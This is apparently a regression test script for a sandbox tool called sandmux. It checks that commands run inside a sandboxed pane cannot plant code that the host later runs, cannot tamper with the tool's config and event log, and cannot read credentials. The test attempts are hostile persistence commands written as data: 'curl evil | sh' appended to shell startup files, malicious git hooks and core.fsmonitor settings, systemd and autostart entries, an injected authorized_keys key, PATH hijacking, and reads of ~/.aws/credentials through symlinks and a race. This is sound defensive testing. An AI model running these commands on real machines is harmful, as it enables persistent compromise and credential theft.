#!/bin/sh
# Host integrity: nothing a native pane writes may run on the host later
# or weaken sandmux (design invariant 7, issue 13 items 1-3).
#
# For a server run as root and one run as uid 65534, each with its own
# HOME and work tree, every attempt runs inside a native pane of the
# `terminal` profile and of `agent`.  The host then judges from outside:
# the host-run file is byte-for-byte what it was (cksum), or still does
# not exist, and the supervisor reported the refusal as a `file-write*`
# violation naming it (the events log, `sandmux events --json`).  The
# attempts: shell startup files (append, create), git's global config,
# a hook and core.fsmonitor in the work tree's repository (git config
# and a direct write), a new repository made inside the pane, a PATH
# directory (fixed, and one found in the pane's PATH), a user systemd
# unit, an autostart entry, sandmux's config and events log (truncate,
# forge, delete, rename), deny roots made after launch (mkdir ~/.ssh +
# authorized_keys, ...), what ~/.bashrc sources (nvm's nvm.sh, which
# exists, and ~/.fzf.bash, which does not), bash-completion's user
# files, ~/.hgrc, ~/.gdbinit and a repository's .hg/hgrc, each also
# through a symlink, `mv` over the file, `rm` and create again, and
# moving a parent directory away.
#
# The XDG directories are inside the writable roots on purpose (root:
# under $HOME; uid 65534: under the work tree, writable in `agent`
# too): sandmux's own files must be protected where they are, not only
# by the read-only host.  Before any attempt, no file may have appeared
# in $HOME because a pane started (no stub "ghost" dotfiles).
. "$(dirname "$0")/../lib.sh"

HOST_PATH=$PATH
. "$(dirname "$0")/../native-ctx.sh"
native_start host-run bwrap socat setpriv git
A="$W/attempts"
mkdir -p "$A"
chmod 755 "$A"
# (Copied: a build under /tmp is out of the pane's sight.)
cp "${SANDMUX_BUILD:-$(dirname "$SANDMUX_BIN")}/helpers/sv-readracer" "$A/"

# The wrapper every attempt runs through: output and status into $R.
cat >"$A/run" <<'EOF'
sh "$1/$2.sh" >"$3/$2.tmp" 2>&1
echo " rc=$?" >>"$3/$2.tmp"
mv "$3/$2.tmp" "$3/$2"
EOF

# populate: the host's side of a context, made before its server starts.
populate() {
	H="$D/home"
	WORK="$D/work"
	XDG="$1"
	mkdir -p "$H/.local/bin" "$H/.config/sandmux" "$H/.local/state/sandmux" "$XDG/config/sandmux" \
		"$XDG/state" "$WORK/.r" "$WORK/sub" "$H/gobin"
	# nvm's and fzf's lines: what they source is host-run too (hostrun.c,
	# "what the shell startup files source"); ~/.fzf.bash does not exist.
	cat >"$H/.bashrc" <<'EOF'
# host bashrc
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"
[ -f ~/.fzf.bash ] && source ~/.fzf.bash
EOF
	mkdir -p "$H/.nvm"
	echo "# nvm" >"$H/.nvm/nvm.sh"
	printf '[user]\n\tname = host\n' >"$H/.gitconfig"
	echo '{}' >"$H/.config/sandmux/config.json"
	echo '{}' >"$XDG/config/sandmux/config.json"
	echo '{"decoy":1}' >"$H/.local/state/sandmux/events.jsonl"
	git init -q "$WORK"
	git -C "$WORK" -c safe.directory='*' -c user.name=h -c user.email=h@h commit -q \
		--allow-empty -m host
	git init -q "$WORK/sub"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
	chmod 700 "$D/run"
}

# snapshot: the cksum of every host-run file that exists, and the list
# of what is in $HOME (for the ghost check).
snapshot() {
	for f in "$H/.bashrc" "$H/.nvm/nvm.sh" "$H/.gitconfig" "$WORK/.git/config" "$WORK/sub/.git/config" \
		"$H/.config/sandmux/config.json" "$XDG/config/sandmux/config.json" \
		"$H/.local/state/sandmux/events.jsonl"; do
		cksum "$f"
	done
	ls -A "$H/.local/bin" "$WORK/.git/hooks" "$WORK/sub/.git/hooks"
}
# What is in $HOME, but for the XDG directories (the server's own).
home_listing() { (cd "$H" && find . -path ./.xdg -prune -o -print | sort); }

field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
pane_in() { # PROFILE [ARGS...]: a native pane in the work tree, its id
	prof=$1
	shift
	sm split -t %1 -v -l 6 --backend native --profile "$prof" -c "$WORK" -e PS1='$ ' "$@" \
		-- /bin/sh >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}
# attempt NAME < SCRIPT: run SCRIPT in pane $P; $OUT gets its output.
attempt() {
	n="$NAME-$PROF-$1"
	cat >"$A/$n.sh"
	chmod 644 "$A/$n.sh"
	rm -f "$WORK/.r/$n"
	sm send-keys -t "%$P" "sh $A/run $A $n $WORK/.r" Enter
	if wait_for 20 test -f "$WORK/.r/$n"; then
		OUT=$(cat "$WORK/.r/$n")
	else
		OUT="(no result within 20 s)"
	fi
}
absent() { for f in "$@"; do [ ! -e "$f" ] && [ ! -L "$f" ] || return 1; done; }
unchanged() { [ "$(snapshot 2>&1)" = "$BEFORE" ]; }
events() { sm events --json 2>/dev/null | grep '"kind":"violation"' | grep -F "\"pane\":$P,"; }
# reported TARGET: a file-write* violation of this pane names TARGET.
reported() { events | grep -F '"action":"file-write' | grep -qF "\"target\":\"$1"; }
# reported_once TARGET: exactly one violation of this pane names it.
reported_once() { [ "$(events | grep -cF "\"target\":\"$1\"")" -eq 1 ]; }
# layered TARGET: in the terminal profile, $HOME is a copy-on-write
# layer (backends/home-layer.h): a write under it succeeds in the pane
# and lands in the layer, not on the host, and is no violation.  The
# host's side is judged the same way; the pane's change must be in the
# layer (`sandmux changes`) unless the supervisor refused it anyway.
layered() { [ "$PROF" = terminal ] && case "$1" in "$H"/*) true ;; *) false ;; esac; }
in_layer() { sm changes --json | grep -qF "\"path\":\"${1#"$H"/}"; }
reported_or_layered() { reported "$1" || { layered "$1" && in_layer "$1"; }; }
# verdict WHAT TARGET CHECK...: the host file held, and it was reported
# (or, under the terminal profile's $HOME, held in the layer).
verdict() {
	what=$1
	target=$2
	shift 2
	if "$@" && unchanged; then
		ok "$TAG: $what: the host is unchanged"
	else
		not_ok "$TAG: $what: the host is unchanged"
		printf '%s\n' "$OUT" | head -c 600 | sed 's/^/#   /'
	fi
	if layered "$target"; then
		check "$TAG: $what: reported file-write*, or held in the home layer: $target" \
			wait_for 3 reported_or_layered "$target"
	else
		check "$TAG: $what: reported file-write* $target" wait_for 3 reported "$target"
	fi
}

# attempts: every attempt in pane $P (profile $PROF), judged.
attempts() {
	TAG="$NAME/$PROF"
	BEFORE=$(snapshot 2>&1)
	attempt bashrc <<EOF
echo 'curl evil | sh' >>$H/.bashrc
EOF
	verdict "append to ~/.bashrc" "$H/.bashrc" true
	layered "$H/.bashrc" || check "$TAG: the refused append is one violation" reported_once "$H/.bashrc"
	attempt profile <<EOF
echo 'curl evil | sh' >$H/.profile
EOF
	verdict "create ~/.profile" "$H/.profile" absent "$H/.profile"
	layered "$H/.profile" || check "$TAG: the refused create is one violation" reported_once "$H/.profile"
	attempt zshrc <<EOF
echo 'curl evil | sh' >$H/.zshrc
EOF
	verdict "create ~/.zshrc" "$H/.zshrc" absent "$H/.zshrc"
	attempt zshrc-symlink <<EOF
ln -s .zshrc $H/innocent; echo 'curl evil | sh' >$H/innocent
ln -s $H/.zshenv $WORK/innocent; echo 'curl evil | sh' >$WORK/innocent
EOF
	verdict "create ~/.zshrc through a symlink" "$H/.zsh" absent "$H/.zshrc" "$H/.zshenv"
	attempt bashrc-mv <<EOF
echo 'curl evil | sh' >$WORK/evil; mv -f $WORK/evil $H/.bashrc
echo 'curl evil | sh' >$WORK/evil; mv -f $WORK/evil $H/.bash_login
EOF
	verdict "mv a file over ~/.bashrc, onto ~/.bash_login" "$H/.bash" absent "$H/.bash_login"
	attempt bashrc-rm <<EOF
rm -f $H/.bashrc; echo 'curl evil | sh' >$H/.bashrc
EOF
	verdict "rm ~/.bashrc, then create it" "$H/.bashrc" true
	attempt gitconfig <<EOF
git config --global alias.st '!sh -c evil'
printf '[core]\n\tpager = sh -c evil\n' >>$H/.gitconfig
EOF
	verdict "write ~/.gitconfig (git config --global, >>)" "$H/.gitconfig" true
	attempt git-xdg <<EOF
mkdir -p $H/.config/git && echo '[core] fsmonitor = evil' >$H/.config/git/config
EOF
	verdict "create ~/.config/git/config" "$H/.config/git" absent "$H/.config/git"
	attempt hook <<EOF
echo 'curl evil | sh' >$WORK/.git/hooks/pre-commit; chmod +x $WORK/.git/hooks/pre-commit
echo 'curl evil | sh' >$WORK/sub/.git/hooks/pre-commit
EOF
	verdict "plant .git/hooks/pre-commit (the work tree, a nested repository)" \
		"$WORK/.git/hooks/pre-commit" absent "$WORK/.git/hooks/pre-commit" \
		"$WORK/sub/.git/hooks/pre-commit"
	attempt hook-dir <<EOF
mv $WORK/.git/hooks $WORK/.git/old-hooks; mkdir $WORK/.git/hooks
rm -rf $WORK/sub/.git/hooks; mkdir $WORK/sub/.git/hooks
ln -s $WORK/sub/.git/hooks/post-checkout $WORK/hooklink; echo evil >$WORK/hooklink
EOF
	verdict "replace .git/hooks (mv away, rm -rf, symlink into it)" "$WORK/.git/hooks" \
		absent "$WORK/.git/old-hooks" "$WORK/sub/.git/hooks/post-checkout"
	attempt fsmonitor <<EOF
cd $WORK && git config core.fsmonitor 'sh -c evil'
EOF
	verdict "git config core.fsmonitor in the work tree" "$WORK/.git/config" true
	attempt fsmonitor-direct <<EOF
printf '\tfsmonitor = sh -c evil\n' >>$WORK/.git/config
printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilconfig; mv -f $WORK/evilconfig $WORK/sub/.git/config
EOF
	verdict "core.fsmonitor into .git/config directly (>>, mv over)" "$WORK/.git/config" true
	check "$TAG: ... and the mv over the nested repository's config" reported "$WORK/sub/.git/config"
	attempt fsmonitor-regit <<EOF
cd $WORK && mv .git .git-old; git init -q . && git config core.fsmonitor 'sh -c evil'
rm -rf sub/.git; git init -q sub && git -C sub config core.fsmonitor 'sh -c evil'
EOF
	verdict "move .git away or rm -rf it, git init again, set core.fsmonitor" "$WORK/.git" \
		absent "$WORK/.git-old"
	attempt newrepo <<EOF
git init -q $WORK/fresh && cd $WORK/fresh && git config core.hooksPath /tmp; mkdir .git/hooks
echo evil >.git/hooks/post-commit; git config core.fsmonitor 'sh -c evil'
EOF
	verdict "a repository made inside the pane: hooksPath, fsmonitor, hooks" "$WORK/fresh/.git" \
		sh -c "! grep -qi 'fsmonitor\|hookspath' '$WORK/fresh/.git/config' 2>/dev/null &&
			[ ! -e '$WORK/fresh/.git/hooks' ]"
	attempt gitdir-file <<EOF
mkdir -p $WORK/evilgit $WORK/pointed-$PROF && printf '[core]\n\tfsmonitor = sh -c evil\n' >$WORK/evilgit/config
ln -s $WORK/evilgit $WORK/pointed-$PROF/.git; echo "gitdir: $WORK/evilgit" >$WORK/pointed-$PROF/.git
EOF
	# The file may be made (git worktree add writes one): git takes
	# only a target with a git directory's shape (gitdir.h).
	verdict "a .git symlink, or a .git file, pointing at a pane-made config" "$WORK/pointed-$PROF/.git" \
		sh -c "[ ! -L '$WORK/pointed-$PROF/.git' ] &&
			[ \"\$(git -c safe.directory='*' -C '$WORK/pointed-$PROF' rev-parse --absolute-git-dir 2>/dev/null)\" != '$WORK/evilgit' ]"
	attempt localbin <<EOF
printf '#!/bin/sh\ncurl evil | sh\n' >$H/.local/bin/git; chmod +x $H/.local/bin/git
mkdir -p $H/bin; printf '#!/bin/sh\n' >$H/bin/ls
ln -s .local/bin $H/lb; cp /bin/true $H/lb/ls
EOF
	verdict "an executable into ~/.local/bin, ~/bin, through a symlink" "$H/" \
		absent "$H/.local/bin/git" "$H/.local/bin/ls" "$H/bin"
	attempt systemd <<EOF
mkdir -p $H/.config/systemd/user && printf '[Service]\nExecStart=/bin/sh -c evil\n' >$H/.config/systemd/user/evil.service
EOF
	verdict "add a user systemd unit" "$H/.config/systemd" absent "$H/.config/systemd"
	attempt autostart <<EOF
mkdir -p $H/.config/autostart && printf '[Desktop Entry]\nExec=sh -c evil\n' >$H/.config/autostart/evil.desktop
EOF
	verdict "add an autostart entry" "$H/.config/autostart" absent "$H/.config/autostart"
	attempt config-parent <<EOF
mv $H/.config $H/.config-old && mkdir -p $H/.config/systemd/user && echo evil >$H/.config/systemd/user/x.service
EOF
	verdict "move ~/.config away, make it again" "$H/.config" absent "$H/.config-old"
	attempt sandmux-config <<EOF
echo '{"default_backend":"none"}' >$H/.config/sandmux/config.json
echo '{"default_backend":"none"}' >$XDG/config/sandmux/config.json
echo '{}' >$WORK/c.json; mv -f $WORK/c.json $XDG/config/sandmux/config.json
rm -f $XDG/config/sandmux/config.json
EOF
	verdict "rewrite sandmux's config.json (~/.config, \$XDG_CONFIG_HOME; >, mv, rm)" \
		"$XDG/config/sandmux/config.json" true
	attempt events-log <<EOF
L=$XDG/state/sandmux/events.jsonl
: >\$L; truncate -s 0 \$L; echo '{"forged":1}' >>\$L
echo '{"forged":1}' >$WORK/f; mv -f $WORK/f \$L; mv \$L $WORK/moved; rm -f \$L
mv $XDG/state/sandmux $XDG/state/gone; mv $XDG/state $XDG/gone
echo '{"forged":1}' >>$H/.local/state/sandmux/events.jsonl
EOF
	# Moved out of the layer, the log is a copy (mv across mounts copies
	# and removes): the pane could make one with cat too, and the
	# host's log stays whole.
	moved=$WORK/moved
	layered "$XDG/state/sandmux/events.jsonl" && moved=$WORK/no-such-file
	verdict "empty, forge, replace, rename, delete the events log" \
		"$XDG/state/sandmux/events.jsonl" sh -c "
		! grep -q forged '$XDG/state/sandmux/events.jsonl' &&
		grep -q '\"kind\":\"violation\"' '$XDG/state/sandmux/events.jsonl' &&
		[ ! -e '$moved' ] && [ ! -e '$XDG/gone' ] && [ ! -e '$XDG/state/gone' ]"
	rm -f "$WORK/moved"
	attempt ssh <<EOF
mkdir $H/.ssh; echo 'ssh-ed25519 KEY' >>$H/.ssh/authorized_keys
mkdir $WORK/s; mv $WORK/s $H/.aws; ln -s $WORK $H/.gnupg; mkdir -p $H/.config/gh
EOF
	verdict "make deny roots after launch (~/.ssh + authorized_keys, ~/.aws, ~/.gnupg, ~/.config/gh)" \
		"$H/.ssh" absent "$H/.ssh" "$H/.aws" "$H/.gnupg" "$H/.config/gh"
	attempt sourced <<EOF
echo 'curl evil | sh' >>$H/.nvm/nvm.sh
echo 'curl evil | sh' >$H/.fzf.bash
mv $H/.nvm $H/.nvm-old; mkdir $H/.nvm; echo 'curl evil | sh' >$H/.nvm/nvm.sh
EOF
	verdict "what ~/.bashrc sources (nvm.sh: >>, mv its directory away; ~/.fzf.bash: create)" \
		"$H/.nvm/nvm.sh" absent "$H/.fzf.bash" "$H/.nvm-old"
	check "$TAG: ... and the create of ~/.fzf.bash" reported_or_layered "$H/.fzf.bash"
	attempt completion <<EOF
echo 'curl evil | sh' >$H/.bash_completion
mkdir -p $H/.local/share/bash-completion/completions && echo 'curl evil | sh' >$H/.local/share/bash-completion/completions/git
echo '[hooks]' >$H/.hgrc; echo 'shell curl evil | sh' >$H/.gdbinit
mkdir -p $WORK/.hg && echo '[hooks]' >$WORK/.hg/hgrc
EOF
	verdict "bash-completion's user files, ~/.hgrc, ~/.gdbinit, a repository's .hg/hgrc" \
		"$H/.bash_completion" absent "$H/.bash_completion" "$H/.local/share/bash-completion" \
		"$H/.hgrc" "$H/.gdbinit" "$WORK/.hg/hgrc"
	check "$TAG: ... and .hg/hgrc" reported "$WORK/.hg/hgrc"
	attempt path-dir <<EOF
printf '#!/bin/sh\n' >$H/gobin/go
EOF
	verdict "an executable into a \$HOME directory on the pane's PATH" "$H/gobin/go" \
		absent "$H/gobin/go"
}

# mounts_and_caps: the existing host-run files inside a writable root
# are read-only mount points of their own in the pane (made by the shim
# for a root server, by bwrap otherwise: backends/bwrap.c, "Read-only
# binds in the shim"): the work tree's .git/hooks in both profiles
# ($HOME, where the terminal profile makes it writable, is the home
# layer, an overlay); so are /proc/sys and the
# runtime directory's deny mask (its tmpfs made read-only by the shim or
# by bwrap); and the pane's command holds no capability in any set (the
# shim drops the two bwrap left it for the binds).
mounts_and_caps() {
	mounts="$WORK/.git/hooks /proc/sys $D/run"
	attempt mounts <<EOF
awk '{ print "mount", \$5, \$6 }' /proc/self/mountinfo
awk '{ for (i = 7; i < NF; i++) if (\$i == "-") print "fstype", \$5, \$(i + 1) }' /proc/self/mountinfo
grep '^Cap' /proc/self/status
echo "ids \$(id -u):\$(id -g)"
EOF
	for m in $mounts; do
		check "$TAG: $m is a read-only mount inside" \
			sh -c 'printf "%s\n" "$1" | grep -q "^mount $2 ro,"' - "$OUT" "$m"
	done
	# The terminal profile's $HOME is the copy-on-write layer.
	[ "$PROF" = terminal ] && check "$TAG: \$HOME is an overlay (the home layer) inside" \
		sh -c 'printf "%s\n" "$1" | grep -q "^fstype $2 overlay$"' - "$OUT" "$H"
	if [ "$(printf '%s\n' "$OUT" | grep -c '^Cap[A-Za-z]*:[[:space:]]*0*$')" -eq 5 ]; then
		ok "$TAG: the command holds no capability (effective, permitted, inheritable, bounding, ambient)"
	else
		not_ok "$TAG: the command holds no capability (effective, permitted, inheritable, bounding, ambient)"
		printf '%s\n' "$OUT" | sed 's/^/#   /'
	fi
	# The server's own ids inside, not the uid 0 bwrap gives the shim
	# of a server not run as root for its binds (backends/native-inside/shim.c, --userns).
	if [ "$WHO" = nobody ]; then want_ids=65534:65534; else want_ids=0:0; fi
	check "$TAG: the command runs as the server's user ($want_ids)" \
		sh -c 'printf "%s\n" "$1" | grep -qx "ids $2"' - "$OUT" "$want_ids"
}

# The same secret made on the host while the pane runs, under a deny
# root the pane could not create (so no mask covers it): still
# unreadable, whatever leads there: the path, a relative read after a
# cd, /proc/self/cwd, a symlink at the last component, a chain of them,
# a symlinked directory, /proc/self/root.
late_secret() {
	mkdir -p "$H/.aws" && echo "late-secret-$$" >"$H/.aws/credentials"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$H/.aws"
	# Relative reads too, from the same shell after a cd: the supervisor
	# keeps each thread's cwd for plain reads (supervisor-path.c, "the
	# child's fs_struct"), and the read before the cd fills it.
	attempt late-secret <<EOF
cat $H/.aws/credentials
cd $H && : <.
cd $H/.aws && cat <credentials
cat credentials
cat /proc/self/cwd/credentials
cd $WORK
ln -s $H/.aws/credentials late-link; cat late-link
ln -s late-link late-chain; cat late-chain
ln -s $H/.aws late-dir; cat late-dir/credentials
cat /proc/self/root$H/.aws/credentials
rm -f late-link late-chain late-dir
EOF
	if printf '%s\n' "$OUT" | grep -qF "late-secret-$$"; then
		not_ok "$TAG: a secret made under a deny root after launch stays unreadable"
	else
		ok "$TAG: a secret made under a deny root after launch stays unreadable"
	fi
	# threat: a second thread swapping the checked path for the late
	# secret between the supervisor's check and the open (the kernel's
	# own walk, were the read answered CONTINUE).
	echo "harmless" >"$WORK/allowed.txt"
	[ "$WHO" = nobody ] && chown 65534:65534 "$WORK/allowed.txt"
	attempt late-race <<EOF
$A/sv-readracer 20000 $WORK/allowed.txt $H/.aws/credentials late-secret-$$
EOF
	if printf '%s\n' "$OUT" | grep -q 'read-allowed [1-9].* read-secret 0' &&
		printf '%s\n' "$OUT" | grep -q ' rc=0'; then
		ok "$TAG: a racing thread never reads the late secret ($(printf '%s' "$OUT" | head -1))"
	else
		not_ok "$TAG: a racing thread never reads the late secret"
		printf "%s\n" "$OUT" | sed "s/^/#   /"
	fi
	rm -rf "$H/.aws" "$WORK/allowed.txt"
}

for who in root nobody; do
	# Where the XDG directories go: inside a writable root either way.
	if [ "$who" = root ]; then xdg="$W/$who/home/.xdg"; else xdg="$W/$who/work/.xdg"; fi
	ctx "$who" "$who" \
		"$W/$who/home/gobin:$HOST_PATH" \
		XDG_CONFIG_HOME="$xdg/config" XDG_STATE_HOME="$xdg/state"
	populate "$xdg"
	sm new -d -s hr -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
	for PROF in terminal agent; do
		GHOSTS=$(home_listing)
		P=$(pane_in "$PROF")
		if ! field_is "$P" backend native; then
			not_ok "$NAME/$PROF: a native pane starts ($(pane_field "$P" reason))"
			continue
		fi
		check "$NAME/$PROF: no file appeared in \$HOME when the pane started" \
			[ "$(home_listing)" = "$GHOSTS" ]
		attempts
		mounts_and_caps
		[ "$PROF" = terminal ] && late_secret
	done
	sm kill-server >/dev/null 2>&1
done

# $HOME spelled through a symlink (an NFS home, /home -> /data/home):
# what does not exist yet is refused where it would really be made.
ctx symhome root
rm -rf "$D/home"
mkdir -p "$D/realhome" "$D/work/.r"
ln -s realhome "$D/home"
H="$D/home"
WORK="$D/work"
sm new -d -s hr -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
PROF=terminal
P=$(pane_in terminal)
attempt symhome <<EOF
echo evil >$H/.profile; mkdir $H/.ssh; mkdir -p $H/.config/systemd/user; mkdir -p $H/.local/bin
EOF
R="$D/realhome"
check "symhome: under a symlinked \$HOME, ~/.profile, ~/.ssh, ~/.config/systemd, ~/.local/bin not made" \
	absent "$R/.profile" "$R/.ssh" "$R/.config/systemd" "$R/.local/bin"
symhome_held() { reported "$D/realhome/.profile" || sm changes --json | grep -qF '"path":".profile"'; }
check "symhome: reported where it would be made, or held in the home layer" symhome_held
sm kill-server >/dev/null 2>&1
finish
